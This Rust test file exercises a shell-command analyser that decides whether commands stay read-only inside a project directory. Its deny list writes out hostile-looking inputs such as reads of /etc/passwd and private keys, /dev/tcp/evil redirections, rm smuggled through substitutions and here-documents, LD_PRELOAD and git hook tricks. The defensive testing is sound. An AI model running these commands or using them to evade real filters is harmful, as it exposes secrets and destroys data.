use proptest::prelude::*;
use rondo_exec::AllowedDirs;
use rondo_exec::analysis::{COMMAND_BYTES_MAX, Judgement, NESTING_MAX, judge};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;
use tempfile::TempDir;

/// A project with a repository, next to something private.
struct Place {
    root: TempDir,
}

impl Place {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let project = root.path().join("project");
        fs::create_dir_all(project.join("src")).unwrap();
        fs::create_dir(project.join("links")).unwrap();
        fs::create_dir(root.path().join("private")).unwrap();
        fs::write(root.path().join("private/key"), "secret").unwrap();
        fs::write(project.join("README.md"), "x").unwrap();
        fs::write(project.join("src/a.rs"), "x").unwrap();
        symlink("../../private", project.join("links/out")).unwrap();
        symlink("../README.md", project.join("links/in")).unwrap();
        symlink("/nonexistent/x", project.join("links/dangling")).unwrap();
        let made = Command::new("git")
            .args(["init", "-q"])
            .current_dir(&project)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap();
        assert!(made.success());
        Self { root }
    }

    fn dirs(&self) -> AllowedDirs {
        AllowedDirs::new(&self.project(), &[]).unwrap()
    }

    fn project(&self) -> std::path::PathBuf {
        self.root.path().join("project")
    }
}

const READ_ONLY: &[&str] = &[
    "ls",
    "ls -la src",
    "ls -l --color=never | wc -l",
    "cat README.md",
    "cat 'README.md' \"src/a.rs\" src/../README.md",
    "cat links/in",
    "head -n 20 README.md",
    "head -5 README.md; tail -c 10 README.md",
    "wc -l src/*.rs",
    "ls *.md",
    "sort -k2,2n README.md | uniq -c | sort -rn | head",
    "cut -d: -f1 README.md",
    "cut -d ' ' -f 2 README.md",
    "tr a-z A-Z < README.md",
    "stat -c %s README.md",
    "du -sh src",
    "file README.md",
    "pwd",
    "echo hello world",
    "echo \"$HOME and $(pwd)\"",
    "echo `pwd`",
    "echo $((1 + 2))",
    "true && echo yes || echo no",
    "test -f README.md && echo there",
    "[ -d src ]",
    "if [ -f README.md ]; then cat README.md; else echo none; fi",
    "(ls; pwd)",
    "{ ls; pwd; }",
    "! grep -q x README.md",
    "find . -name '*.rs' -type f",
    "find src -maxdepth 2 \\( -name '*.rs' -o -name '*.toml' \\) -print",
    "find . -name '*.rs' -printf '%s %p\\n' | sort -n | tail -1",
    "grep -rn 'fn main' src",
    "grep -E 'a|b$' README.md",
    "grep \"foo$\" README.md",
    "grep '/usr/bin' README.md",
    "grep -e x -e y README.md 2>/dev/null",
    "grep -c x README.md > /dev/null 2>&1",
    "rg -n --glob '*.rs' main src",
    "rg --files src",
    "rg TODO",
    "LC_ALL=C sort README.md",
    "git status",
    "git status --short -b",
    "git log --oneline -n 5",
    "git log -3 --stat -- src",
    "git --no-pager diff HEAD~1",
    "git diff --cached --name-only",
    "git show HEAD:README.md",
    "git log main..dev --format='%h %s'",
    "cat <<'EOF'\nhello $x\nEOF",
    "cat <<EOF\nhello\nEOF",
    "cat <<E | wc -l; pwd\nhello\nE\nls",
    "cat <<E\nx\nE; rm x\nE",
    "cat <<-E\n\thello\n\tE\nls",
    "cat <<'A' <<B\n$x\nA\ny\nB",
    "ls \\\n  -la \\\n  src",
    "ls # what is (here\ncat README.md # and 'there",
    "grep $'\\t' README.md",
    "grep \"x$\\|y$\" README.md",
    "echo a{b}c",
    "cd src && ls && cat a.rs",
    "cd src; pwd",
    "cd ./src && cat ../README.md",
    "(cd src && ls); cat README.md",
    "if cd src; then cat a.rs; else cat README.md; fi",
    "cat -- README.md",
    "cat not-there-yet",
    "ls /dev/null",
];

const NOT_READ_ONLY: &[&str] = &[
    "echo $(echo '/etc/*')",
    "ls `echo /etc/*`",
    // Programs.
    "rm README.md",
    "/bin/ls",
    "./ls",
    "r''m x",
    "\\rm x",
    "$CMD x",
    "$(echo rm) x",
    "`echo rm` x",
    "command rm x",
    "env ls",
    "sudo ls",
    "xargs rm < README.md",
    "find . -exec rm {} +",
    "find . -delete",
    "find . -fprint out",
    "find . -fls out",
    "find . -okdir rm {} +",
    "find -L . -name x",
    "find /etc -name passwd",
    "find . -newer /etc/passwd",
    "find . -files0-from x",
    "sort -o out README.md",
    "sort -ro out README.md",
    "sort --output=out README.md",
    "sort --outp=out README.md",
    "sort --compress-program=evil README.md",
    "sort -T /etc README.md",
    "sort --files0-from=x",
    "uniq README.md out",
    "uniq *.md",
    "uniq src/*",
    "tail -f README.md",
    "rg --pre evil x",
    "rg --pre=evil x",
    "rg -z x",
    "rg --hostname-bin=evil x",
    "rg --files /etc",
    "rg -L x",
    "rg -f /etc/passwd",
    "grep -f /etc/passwd README.md",
    "grep -R x .",
    "grep -e x /etc/passwd",
    "grep x -e y /etc/passwd",
    "grep -A 3 x /etc/passwd",
    "file -C -m magic",
    "file -f README.md",
    "file -z README.md",
    "wc --files0-from=x",
    "du --files0-from=x",
    "tee out < README.md",
    "sed -n 1p README.md",
    "awk 'BEGIN{system(\"id\")}'",
    "printf -v PATH x",
    "read x",
    "cd ..",
    "eval ls",
    "exec ls",
    ". README.md",
    "source README.md",
    "export A=b",
    "alias ls=rm",
    "set -x",
    "shopt -s expand_aliases",
    "hash -p /tmp/evil ls",
    "enable -f evil.so ls",
    "trap 'rm x' EXIT",
    "time rm x",
    "time ls",
    // The shape of the command.
    "ls; rm x",
    "ls && rm x",
    "ls || rm x",
    "ls | rm x",
    "ls & rm x",
    "ls &",
    "ls\nrm x",
    "(rm x)",
    "{ rm x; }",
    "if rm x; then ls; fi",
    "if ls; then rm x; fi",
    "if ls; then ls; elif rm x; then ls; fi",
    "while rm x; do ls; done",
    "for PATH in /tmp; do ls; done",
    "for f in *; do cat $f; done",
    "case x in x) rm x;; esac",
    "case $(rm x) in *) ls;; esac",
    "case x in $(rm x)) ls;; esac",
    "ls() { rm x; }; ls",
    "function ls { rm x; }; ls",
    "coproc rm x",
    "select x in a; do ls; done",
    "[[ $(rm x) ]]",
    "[[ -v 'a[$(rm x)]' ]]",
    "[[ 'a[$(rm x)]' -eq 1 ]]",
    "test -v 'a[$(rm x)]'",
    "[ -v 'a[$(rm x)]' ]",
    "[ -R x ]",
    "((x=1))",
    "((a[$(rm x)]))",
    "echo $((a[$(rm x)]))",
    "echo $[ $(rm x) ]",
    "for ((;;)); do ls; done",
    // Words.
    "echo $(rm x)",
    "echo `rm x`",
    "echo \"`rm x`\"",
    "echo \"$(rm x)\"",
    "echo \"$(echo \"$(rm x)\")\"",
    "echo `echo \\`rm x\\``",
    "echo ${x:-$(rm x)}",
    "echo \"${x:-$(rm x)}\"",
    "echo ${x:-`rm x`}",
    "echo ${x/../`rm x`}",
    "echo ${x^^$(rm x)}",
    "echo ${x:$(rm x)}",
    "echo ${x[$(rm x)]}",
    "echo ${!x}",
    "echo ${x@P}",
    "echo ${x:=y}",
    "echo $SECRET",
    "echo $'\\x41'",
    "echo $\"x\"",
    "echo <(rm x)",
    "cat <(rm x)",
    "cat >(rm x)",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\n`rm x`\nEOF",
    "cat <<< $(rm x)",
    "cat <<< \"`rm x`\"",
    "cat <<< \"$SECRET\"",
    "cat <<< $1",
    "cat {/etc/passwd,x}",
    "ls {a,..}",
    "ls a{,/../..}",
    // Redirections.
    "echo x > out",
    "echo x >> out",
    "echo x >| out",
    "echo x > /dev/null/../out",
    "echo x >& out",
    "echo x &> out",
    "echo x &>> out",
    "> out",
    ": > out",
    "echo x 2> out",
    "echo x > $F",
    "echo x > /dev/nul*",
    "cat <> out",
    "cat < /etc/passwd",
    "cat < ../private/key",
    "cat < /dev/tcp/evil/80",
    "echo x > /dev/tcp/evil/80",
    "{ ls; } > out",
    "(ls) > out",
    "if ls; then ls; fi > out",
    // Assignments.
    "PATH=/tmp ls",
    "PATH=/tmp; ls",
    "LD_PRELOAD=x ls",
    "GIT_PAGER=evil git log",
    "GIT_EXTERNAL_DIFF=evil git diff",
    "LC_ALL=$(rm x) ls",
    "LANG+=x ls",
    "x=1",
    "x[$(rm x)]=1",
    "x=($(rm x))",
    // Paths.
    "cat /etc/passwd",
    "cat ../private/key",
    "cat src/../../private/key",
    "cat links/out/key",
    "cat links/dangling",
    "cat links/*",
    "cat */key",
    "cat l*/out/key",
    "cat ~/x",
    "cat ~root/x",
    "cat ~+/../private/key",
    "cat $HOME/x",
    "cat \"$PWD/../private/key\"",
    "cat $(echo /etc/passwd)",
    "cat missing/../../private/key",
    "cat /proc/self/environ",
    "cat /proc/self/root/etc/passwd",
    "ls ..",
    "ls /",
    "echo /*",
    "echo ../*",
    // Older shells match `..` too.
    "ls .*",
    "grep -r x .*",
    "ls src/.?",
    "ls ..*",
    "test -f /etc/passwd",
    "stat /etc",
    "cat -- -x /etc/passwd",
    // git.
    "git",
    "git push",
    "git commit -m x",
    "git -c alias.x='!rm x' x",
    "git -c core.pager=evil log",
    "git -C .. status",
    "git --git-dir=../x status",
    "git --exec-path=. status",
    "git log --output=out",
    "git diff --output out",
    "git diff -Oorder",
    "git diff -L --output=out",
    "git show -L --output=out",
    "git diff --ext-diff",
    "git log --textconv",
    "git show --textconv HEAD:x",
    "git diff --no-index /etc/passwd README.md",
    "git diff /etc/passwd /etc/group",
    "git log --show-signature",
    "git log --format=%G?",
    "git log --format=%+G?",
    "git log '--format=% GK'",
    "git log --format=%-GG",
    "git --paginate log",
    "git -p log",
    "git grep -O x",
    "git branch -D x",
    "git stash",
    "git $X",
    "git status $X",
    // What parsers disagree about: here-documents above all.
    "cat <<$'E'\nx\nE\nrm x\n$'E'",
    "cat <<$'E'\nx\n$E\nrm x\nE",
    "cat <<\"E'\"\nx\nE'\nrm x\nE",
    "cat <<\"E\\F\"\nx\nE\\F\nrm x\nEF",
    "cat <<\"E\"\nx\nE",
    "cat <<\\E\nx\nE",
    "cat <<E\\\nF\nx\nEF",
    "cat <<''\nx\n\nls",
    "cat <<E'F'\nx\nEF",
    "cat <<{a,b}\nx\n{a,b}",
    "cat <<`pwd`\nx\n`pwd`\nrm x",
    "echo $(cat <<E\nx\nE\n)",
    "echo \"$(cat <<'E'\n)\nE\n)\"",
    "echo `cat <<E\nx\nE\n`",
    "cat <(cat <<E\nx\nE\n)",
    "cat <<E \"a\nb\"\nx\nE",
    "cat <<E $(pwd\n)\nE\nls",
    "cat <<E \\\n-n\nx\nE",
    "cat <<E\nx\nE ",
    "cat <<'E' <<F\nE\n$(rm x)\nF",
    "cat << 'E F'\nE F",
    "<<$( (e ",
    "cat <<",
    "cat <<<",
    "cat <<\nls",
    "echo $(ls # )\nrm x)",
    "echo `ls # `",
    "ls #\\\nrm x",
    "l\\\ns",
    "ls;\\\nrm x",
    "ls \"$\\\n(rm x)\"",
    "echo $\\\n(rm x)",
    "echo \"a\\\nb\"",
    "echo a{$(pwd),x}",
    "echo $((08 > x))",
    "echo $((1)) $(( (ls) ))",
    "((ls))",
    "ls 1234<README.md",
    "ls {fd}<README.md",
    "ls a<(rm x)",
    "ls <(ls)x",
    "ls 2<(rm x)",
    "x[1 2]=3 ls",
    "ls x[ rm ]=1",
    "a= (rm x)",
    "!(ls)",
    "! (rm x)",
    "echo ?(a)",
    "cat \u{e0}/etc/passwd",
    "[[ x =~ (a) ]]",
    "[[ a < b ]] && rm x",
    "time -p rm x",
    "coproc ls",
    "echo $'\\x41'",
    "echo $'\\'' rm x'",
    "ls \"'\" ; rm x \"'\"",
    r"echo `echo \\\`rm x\\\``",
    "echo \"`echo \\\"x\\\"`\"",
    // Where the shell is.
    "cd /etc && cat passwd",
    "cd links/out && cat key",
    "cd links/out/../private && cat key",
    "cd src/.. && ls",
    "cd - && ls",
    "cd && ls",
    "cd -P src",
    "cd src README.md",
    "cd $X && ls",
    "cd missing && ls",
    "cd src && cat ../../private/key",
    "cd src; cat ../../private/key",
    "cd src || cat ../private/key",
    "cd src && cd ../.. && ls",
    "cd src | cat ../private/key",
    "while cd src; do ls; done",
    "pushd / ; cat etc/passwd",
    // Options that old versions know.
    "tail -99999c /etc/passwd",
    "head -99999c /etc/passwd",
    "tail -1qc /etc/passwd",
    "head -1qc /etc/passwd",
    "head -5n /etc/passwd",
    "tail -5b /etc/passwd",
    "head -5 /etc/passwd",
    "grep -5e /etc/passwd README.md",
    "git log -5n /etc/passwd",
    "git log --grep -- --output=out",
    "git log --author -- --output=out",
    "git log --max-count -- --output=out",
    "git log --since -- --output=out",
    "git diff --diff-filter -- --output=out",
    // What parsers disagree about, in other places.
    "ls # comment\nrm x",
    "echo a;#b\nrm x",
    "ls\u{a0}x",
    "ls\rrm x",
    "ls \u{202e}x",
    "ls\0",
    "ls '",
    "ls \"",
    "ls $(",
    "ls )",
    "ls `",
    "cat <<EOF",
    "cat <<$(rm x)\nx\n$(rm x)",
    "if ls; then",
    "ls ;; ls",
    "echo \"$(case x in x) rm x;; esac)\"",
    "echo @(a|b)",
    "ls !(x)",
];

#[test]
fn what_only_looks_is_told() {
    let place = Place::new();
    let asked: Vec<_> = READ_ONLY
        .iter()
        .map(|command| (command, judge(command, &place.dirs())))
        .filter(|(_, judgement)| *judgement != Judgement::ReadOnly)
        .collect();
    assert_eq!(asked, []);
}

#[test]
fn what_may_do_more_is_never_taken_for_looking() {
    let place = Place::new();
    assert!(NOT_READ_ONLY.len() >= 80);
    let taken: Vec<_> = NOT_READ_ONLY
        .iter()
        .filter(|command| judge(command, &place.dirs()) == Judgement::ReadOnly)
        .collect();
    assert_eq!(taken, Vec::<&&str>::new());
}

#[test]
fn effects_name_the_programs() {
    let place = Place::new();
    let judged = |command: &str| match judge(command, &place.dirs()) {
        Judgement::Effects { commands, .. } => commands,
        other => panic!("{command}: {other:?}"),
    };
    assert_eq!(judged("ls && /bin/rm x"), ["ls", "rm"]);
    assert!(judged("find . -exec r\"m\" {} +").contains(&"rm".to_owned()));
    assert!(judged("bash -c 'r\"\"m x; sudo y'").contains(&"rm".to_owned()));
    assert!(judged("echo 'rm x' | bash").contains(&"rm".to_owned()));
    assert!(judged("echo $(sudo x)").contains(&"sudo".to_owned()));
}

#[test]
fn length_and_nesting_are_bounded() {
    let place = Place::new();
    let echo = |length: usize| format!("echo {}", "x".repeat(length - 5));
    for (length, fits) in [
        (COMMAND_BYTES_MAX - 1, true),
        (COMMAND_BYTES_MAX, true),
        (COMMAND_BYTES_MAX + 1, false),
    ] {
        let is_read_only = judge(&echo(length), &place.dirs()) == Judgement::ReadOnly;
        assert_eq!(is_read_only, fits, "{length}");
    }
    for command in [
        format!("{}ls{}", "(".repeat(4000), ")".repeat(4000)),
        format!("{}ls{}", "( ".repeat(NESTING_MAX), ")".repeat(NESTING_MAX)),
        format!("{}ls{}", "echo $(".repeat(1000), ")".repeat(1000)),
        "if ls; then ".repeat(600),
        "{ ".repeat(2000),
        "[[ ( ".repeat(500),
        "`".repeat(4000),
        "<<a ".repeat(1000),
        "${a:-".repeat(1000),
        "while ".repeat(1000),
    ] {
        assert_ne!(judge(&command, &place.dirs()), Judgement::ReadOnly);
    }
}

#[test]
fn a_repository_that_makes_git_run_programs_is_asked_about() {
    let place = Place::new();
    let config = place.project().join(".git/config");
    let usual = fs::read_to_string(&config).unwrap();
    assert_eq!(judge("git status", &place.dirs()), Judgement::ReadOnly);
    fs::write(&config, format!("{usual}[core]\n\tfsmonitor = ./evil\n")).unwrap();
    assert_ne!(judge("git status", &place.dirs()), Judgement::ReadOnly);
    fs::write(&config, usual).unwrap();
    fs::write(place.project().join(".git/hooks/post-index-change"), "").unwrap();
    assert_ne!(judge("git status", &place.dirs()), Judgement::ReadOnly);
}

/// Git goes on to a repository around, or without `.git`, where it does not know what it found.
#[test]
fn a_repository_that_git_passes_over_hides_no_other() {
    let inside = |make: fn(&Path)| {
        let place = Place::new();
        let sub = place.project().join("sub");
        fs::create_dir(&sub).unwrap();
        make(&sub);
        let dirs = place.dirs().in_directory(Path::new("sub")).unwrap();
        judge("git status", &dirs)
    };
    let bare = |at: &Path| {
        fs::create_dir_all(at.join("objects")).unwrap();
        fs::create_dir_all(at.join("refs")).unwrap();
        fs::write(at.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        fs::write(at.join("config"), "[core]\n\tbare = false\n").unwrap();
    };
    assert_eq!(inside(|_| {}), Judgement::ReadOnly);
    let cases: [fn(&Path); 7] = [
        |at| {
            fs::write(at.join("HEAD"), "ref: refs/heads/main\n").unwrap();
            fs::write(at.join("commondir"), "elsewhere\n").unwrap();
        },
        |at| {
            symlink("refs/heads/main", at.join("HEAD")).unwrap();
            fs::create_dir(at.join("objects")).unwrap();
        },
        |at| {
            fs::create_dir(at.join(".git")).unwrap();
            fs::write(at.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
        },
        |at| fs::create_dir_all(at.join(".git/objects")).unwrap(),
        |at| fs::write(at.join(".git"), "gitdir: ../x\n").unwrap(),
        |at| symlink("../.git", at.join(".git")).unwrap(),
        |at| {
            fs::create_dir(at.join(".git")).unwrap();
            symlink("../../.git/objects", at.join(".git/objects")).unwrap();
        },
    ];
    for (index, case) in cases.into_iter().enumerate() {
        assert_ne!(inside(case), Judgement::ReadOnly, "{index}");
    }
    let place = Place::new();
    let git = place.project().join("sub/.git");
    bare(&git);
    let dirs = place.dirs().in_directory(Path::new("sub")).unwrap();
    assert_eq!(judge("git status", &dirs), Judgement::ReadOnly);
    for (name, content) in [("HEAD", "ref: elsewhere"), ("HEAD", "")] {
        fs::write(git.join(name), content).unwrap();
        assert_ne!(judge("git status", &dirs), Judgement::ReadOnly, "{content}");
    }
    bare(&git);
    fs::create_dir(git.join("objects/info")).unwrap();
    fs::write(git.join("objects/info/alternates"), "/elsewhere").unwrap();
    assert_ne!(judge("git status", &dirs), Judgement::ReadOnly);
}

/// `git log -p --all` shows what it finds behind links in `refs` and `objects`.
#[test]
fn a_repository_with_links_in_it_is_asked_about() {
    let cases: [fn(&Path); 5] = [
        |git| symlink("/elsewhere/refs/heads/main", git.join("refs/heads/x")).unwrap(),
        |git| symlink("/elsewhere/refs", git.join("refs/elsewhere")).unwrap(),
        |git| symlink("/elsewhere/pack", git.join("objects/ab")).unwrap(),
        |git| symlink("/elsewhere/packed-refs", git.join("packed-refs")).unwrap(),
        |git| {
            let pipe = git.join("refs/heads/pipe");
            assert!(Command::new("mkfifo").arg(pipe).status().unwrap().success());
        },
    ];
    for (index, case) in cases.into_iter().enumerate() {
        let place = Place::new();
        let log = "git log -p --all";
        assert_eq!(judge(log, &place.dirs()), Judgement::ReadOnly);
        let hook = place.project().join(".git/hooks/pre-commit");
        symlink("../../hook", hook).unwrap();
        assert_eq!(judge(log, &place.dirs()), Judgement::ReadOnly);
        case(&place.project().join(".git"));
        assert_ne!(judge(log, &place.dirs()), Judgement::ReadOnly, "{index}");
    }
}

#[test]
fn a_link_that_is_named_like_the_input_is_still_a_link() {
    let place = Place::new();
    assert_eq!(judge("cat -; ls < -", &place.dirs()), Judgement::ReadOnly);
    symlink("../private/key", place.project().join("-")).unwrap();
    for command in ["cat < -", "stat -", "ls -"] {
        assert_ne!(
            judge(command, &place.dirs()),
            Judgement::ReadOnly,
            "{command}"
        );
    }
}

#[test]
fn a_repository_outside_is_asked_about() {
    let place = Place::new();
    let inner = AllowedDirs::new(&place.project().join("src"), &[]).unwrap();
    assert_ne!(judge("git log", &inner), Judgement::ReadOnly);
    let bare = place.project().join("bare");
    let made = Command::new("git")
        .args(["init", "-q", "--bare"])
        .arg(&bare)
        .status();
    assert!(made.unwrap().success());
    let in_bare = place.dirs().in_directory(Path::new("bare")).unwrap();
    assert_ne!(judge("git log", &in_bare), Judgement::ReadOnly);
}

#[test]
fn a_name_that_reads_as_an_option_is_never_matched() {
    let place = Place::new();
    assert_eq!(judge("sort *", &place.dirs()), Judgement::ReadOnly);
    fs::write(place.project().join("-oREADME.md"), "").unwrap();
    assert_ne!(judge("sort *", &place.dirs()), Judgement::ReadOnly);
    assert_eq!(judge("sort ./*", &place.dirs()), Judgement::ReadOnly);
}

#[test]
fn further_directories_can_be_allowed() {
    let place = Place::new();
    let private = place.root.path().join("private");
    let dirs = AllowedDirs::new(&place.project(), std::slice::from_ref(&private)).unwrap();
    assert_eq!(
        judge("cat ../private/key links/out/key", &dirs),
        Judgement::ReadOnly
    );
    let outside = place.dirs().in_directory(&private).unwrap();
    assert_ne!(judge("ls", &outside), Judgement::ReadOnly);
}

/// A parser that was used before took all memory there is for the first of these.
#[test]
fn what_cannot_be_parsed_is_given_up_at_once() {
    let place = Place::new();
    let long = |part: &str| part.repeat(COMMAND_BYTES_MAX / part.len());
    let nested = |open: &str, depth: usize, close: &str| {
        format!("{}ls{}", open.repeat(depth), close.repeat(depth))
    };
    let mut commands = vec![
        "<<$( (e ".to_owned(),
        "<<$( (e \n".to_owned(),
        "$(<<a (".to_owned(),
        nested("case x in x) ", 60, " ;; esac"),
        nested("case x in x) ", 60, " esac"),
        nested("( ", 60, ")"),
        nested("((", 60, "))"),
        nested("$((", 60, "))"),
        nested("${a:-", 60, "}"),
        nested("if ls; then ", 60, "; fi"),
        long("git log;"),
        long("ls *;"),
    ];
    let parts = [
        "<<a ",
        "<<$(",
        "$( (",
        "`",
        "$(",
        "${",
        "$((",
        "((",
        "(",
        "{ ",
        "[[ ( ",
        "if ",
        "for x in ",
        "case x in ",
        "x=(",
        "a[",
        "<(",
        "\"$(",
        "'",
        "$'",
        "<<-",
        "& ",
        "! ",
        "f() ",
        "coproc ",
        "*/",
        "{a,",
        "@(",
        "cd src;",
        "cat <<a\na\n",
    ];
    commands.extend(parts.map(long));
    let dirs = place.dirs();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for command in commands {
            let judged = judge(&command, &dirs);
            let whole = rondo_exec::shell::is_complete(&command);
            let _ = tx.send((command, judged, whole));
        }
    });
    let mut judged = 0;
    while let Ok((command, judgement, _)) = rx.recv_timeout(crate::fixture::PATIENCE) {
        assert_ne!(judgement, Judgement::ReadOnly, "{command}");
        judged += 1;
    }
    assert_eq!(judged, 42);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn a_mutated_command_never_panics_and_never_hides_a_removal(
        which in 0..READ_ONLY.len() + NOT_READ_ONLY.len(),
        at in 0..200_usize,
        cut in 0..4_usize,
        insert in prop::sample::select(vec![
            "$(", ")", "`", "'", "\"", "\\", "${", "}", "<<E\n", "((", "))", ";", "&", "|", "\n",
            "#", "~", "{a,b}", "[[", "]]", "$'", "!", "time ", "if ", "fi", "case ", "*", "\u{e4}",
        ]),
    ) {
        let dir = std::env::temp_dir();
        let dirs = AllowedDirs::new(&dir, &[]).unwrap();
        let corpus: Vec<_> = READ_ONLY.iter().chain(NOT_READ_ONLY).collect();
        let chars: Vec<char> = corpus[which].chars().collect();
        let at = at.min(chars.len());
        let head: String = chars[..at].iter().collect();
        let tail: String = chars[(at + cut).min(chars.len())..].iter().collect();
        let mutated = format!("{head}{insert}{tail}");
        let judged = judge(&mutated, &dirs);
        let panicked = Judgement::Unknown { reason: "the parser failed".to_owned() };
        prop_assert_ne!(judged, panicked);
        let removal = judge(&format!("{mutated}\nrm -rf x\n"), &dirs);
        prop_assert_ne!(removal, Judgement::ReadOnly);
    }
}

/// Opening a pipe waits for a writer; the judgement runs before any timer of the command does.
#[test]
fn a_pipe_in_place_of_gits_files_is_asked_about_at_once() {
    for name in ["config", "index", "HEAD"] {
        let place = Place::new();
        let path = place.project().join(".git").join(name);
        let _ = fs::remove_file(&path);
        assert!(
            Command::new("mkfifo")
                .arg(&path)
                .status()
                .unwrap()
                .success()
        );
        let dirs = place.dirs();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || tx.send(judge("git status", &dirs)));
        let judged = rx.recv_timeout(crate::fixture::PATIENCE);
        assert!(
            !matches!(judged, Ok(Judgement::ReadOnly)),
            "{name}: {judged:?}"
        );
        assert!(judged.is_ok(), "{name}");
    }
}
